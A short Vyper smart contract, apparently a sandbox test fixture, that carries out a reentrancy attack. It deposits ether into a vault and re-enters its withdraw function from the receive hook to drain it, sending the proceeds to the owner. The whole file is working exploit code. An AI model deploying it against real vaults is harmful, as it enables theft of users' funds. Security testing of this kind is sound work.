# pragma version 0.4.3
"""
@title Attacker: reentrancy drain of the ether vault
@notice Deposits, then withdraws and re-enters `withdraw` from its receive hook `rounds` times,
        being paid its balance on every entry.
@dev Revert messages are prefixed with "attack:". Sandbox use only.
"""

interface IVault:
    def deposit(): payable
    def withdraw(): nonpayable
    def balances(account: address) -> uint256: view

owner: public(address)
vault: public(address)
rounds: uint256
entered: uint256


@deploy
def __init__(vault_: address):
    self.owner = msg.sender
    self.vault = vault_


@payable
@external
def attack(rounds_: uint256):
    """
    @notice Deposit the sent ether, then withdraw re-entering `rounds_` times; loot to the owner.
    """
    assert msg.sender == self.owner, "attack: not owner"
    self.rounds = rounds_
    self.entered = 0
    extcall IVault(self.vault).deposit(value=msg.value)
    extcall IVault(self.vault).withdraw()
    send(self.owner, self.balance)


@payable
@external
def __default__():
    """
    @notice Receive hook: re-enter while rounds remain and the vault can still pay.
    """
    if msg.sender == self.vault and self.entered < self.rounds:
        if self.vault.balance >= msg.value:
            self.entered += 1
            extcall IVault(self.vault).withdraw()
